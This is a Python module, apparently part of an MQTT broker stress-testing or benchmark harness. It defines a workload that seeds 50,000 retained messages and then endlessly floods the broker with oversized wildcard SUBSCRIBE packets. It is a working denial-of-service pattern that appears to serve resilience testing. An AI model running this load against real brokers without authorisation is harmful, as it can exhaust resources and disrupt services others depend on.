# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import READY_S, Broker

TOPICS_OF_TWO, LEVEL_BYTES, A_ROUND = 50_000, 60_000, 20


def long_filter(broker: Broker) -> Generator[None, None, None]:
    """20 SUBSCRIBEs of `+/` and 60 000 characters, against 50 000 retained messages on topics of two levels"""
    with broker.first() as client:
        for low in range(0, TOPICS_OF_TWO, 10_000):
            some = range(low, min(low + 10_000, TOPICS_OF_TWO))
            client.send(b"".join(packets.publish(f"{number}/x", b"x", retain=True) for number in some), READY_S)
        client.send(packets.PINGREQ, READY_S)
        client.answer(packets.PINGRESP, READY_S)
    yield
    while True:
        with broker.connect() as client:
            client.send(packets.subscribe(["+/" + "z" * LEVEL_BYTES]) * A_ROUND, 5.0)
            client.send(packets.PINGREQ)
            client.answer(packets.PINGRESP, 5.0)
        yield
